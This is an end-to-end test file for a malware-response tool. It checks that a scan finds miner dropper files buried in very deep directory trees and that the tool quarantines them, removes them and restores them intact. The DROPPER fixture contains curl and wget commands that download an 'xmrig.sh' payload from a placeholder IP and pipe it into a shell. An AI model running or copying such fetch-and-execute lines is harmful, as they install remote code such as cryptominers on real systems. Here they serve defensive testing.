// End-to-end: a dropper 30 directories of 200 letters down (~6,100 bytes, past the 4,096 the kernel
// opens by name), and one 330 down (~66,400 bytes, past the 65,535 a zip entry's name can hold).
// `scan --path` finds both by their full paths; `respond --apply` with those findings' steps
// selected archives them (the manifest holds each full path and sha256, 7z lists them, the deeper
// one under files/long/) and removes them; `undo` puts them back byte-identical. Everything happens
// in a temporary directory.
import { execFile } from 'node:child_process';
import { mkdtempSync, writeFileSync } from 'node:fs';
import os from 'node:os';
import path from 'node:path';
import { promisify } from 'node:util';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { readQuarantine, type Manifest } from '../../src/respond/quarantine.js';
import { ensureBuilt, runCli, runCliJson } from '../helpers/cli.js';
import { inDeep, makeDeep, removeDeep } from '../helpers/deep-tree.js';

const execFileP = promisify(execFile);
const DROPPER =
  '#!/bin/sh\ncurl -fsSL http://203.0.113.7/xmrig.sh | sh\nwget -q -O- http://203.0.113.7/x | bash\n';
let dir: string;
let tree: string;
let full: string;
let longer: string;

/** Runs `command` in the tree's deepest directory; its stdout. */
const inDeepest = (command: string): string => inDeep(tree, 30, command);

beforeAll(async () => {
  await ensureBuilt();
  dir = mkdtempSync(path.join(os.tmpdir(), 'minehunter-respond-deep-'));
  tree = path.join(dir, 'tree');
  full = makeDeep(tree, 30, 'drop.sh', DROPPER);
  longer = makeDeep(path.join(tree, 'b'), 330, 'drop.sh', DROPPER);
}, 120_000);
afterAll(() => removeDeep(dir));

describe('respond on files past PATH_MAX and past a zip entry name', () => {
  it('archives and removes the files the scan found, and undo puts them back', async () => {
    expect(Buffer.byteLength(full)).toBeGreaterThan(4096);
    expect(Buffer.byteLength(longer)).toBeGreaterThan(65_535);
    const sha = inDeepest('sha256sum drop.sh').split(' ')[0];
    const report = path.join(dir, 'report.json');
    const scan = await runCliJson(['scan', '--path', tree, '--no-cache', '--format', 'json', '--lang', 'en']);
    const found = [full, longer].map((p) =>
      scan.json.findings.filter((f) => f.evidence.some((e) => 'path' in e && e.path === p)),
    );
    expect(
      found.map((fs) => fs.map((f) => f.ruleId)),
      scan.stderr,
    ).toEqual([['content-match'], ['content-match']]);
    writeFileSync(report, scan.stdout);

    const out = path.join(dir, 'respond');
    const fingerprints = found.map((fs) => fs[0]!.fingerprint as string);
    const run = await runCli(
      [
        'respond',
        '--report',
        report,
        '--select',
        fingerprints.join(','),
        '--apply',
        '--yes',
        '--out',
        out,
        '--lang',
        'en',
      ],
      { timeoutMs: 120_000 },
    );
    expect(run.code, run.stderr + run.stdout).toBe(0);
    expect(run.stdout).toMatch(/\[done\] archive: 2 file\(s\) archived and verified/);
    expect(run.stdout).toMatch(/\[done\] quarantine:/);
    expect(inDeepest('ls -A')).toBe('');
    expect(inDeep(path.join(tree, 'b'), 330, 'ls -A')).toBe('');

    const entries = await readQuarantine(path.join(out, 'quarantine.zip'), 'infected');
    const manifest = JSON.parse(Buffer.from(entries.get('manifest.json')!).toString()) as Manifest;
    const archived = new Map(manifest.files.map((f) => [f.path, f.sha256]));
    expect([archived.size, archived.get(full), archived.get(longer)]).toEqual([2, sha, sha]);
    expect(manifest.unreadable).toEqual([]);
    expect(Buffer.from(entries.get(`files${full}`)!).toString()).toBe(DROPPER);
    const deepEntry = manifest.files.find((f) => f.path === longer)!.entry;
    expect(deepEntry).toMatch(/^files\/long\/[0-9a-f]{64}\/drop\.sh$/);
    expect(Buffer.from(entries.get(deepEntry)!).toString()).toBe(DROPPER);
    const listed = await execFileP('7z', ['l', '-pinfected', path.join(out, 'quarantine.zip')]);
    expect(listed.stdout).toContain(`${full.slice(1)}`);
    expect(listed.stdout).toContain(deepEntry);

    const undo = await runCli(['undo', path.join(out, 'journal.jsonl'), '--lang', 'en']);
    expect(undo.code, undo.stderr + undo.stdout).toBe(0);
    expect(undo.stdout.match(/\[restored\]/g)).toHaveLength(2);
    expect(inDeepest('cat drop.sh')).toBe(DROPPER);
    expect(inDeep(path.join(tree, 'b'), 330, 'cat drop.sh')).toBe(DROPPER);
  }, 180_000);
});
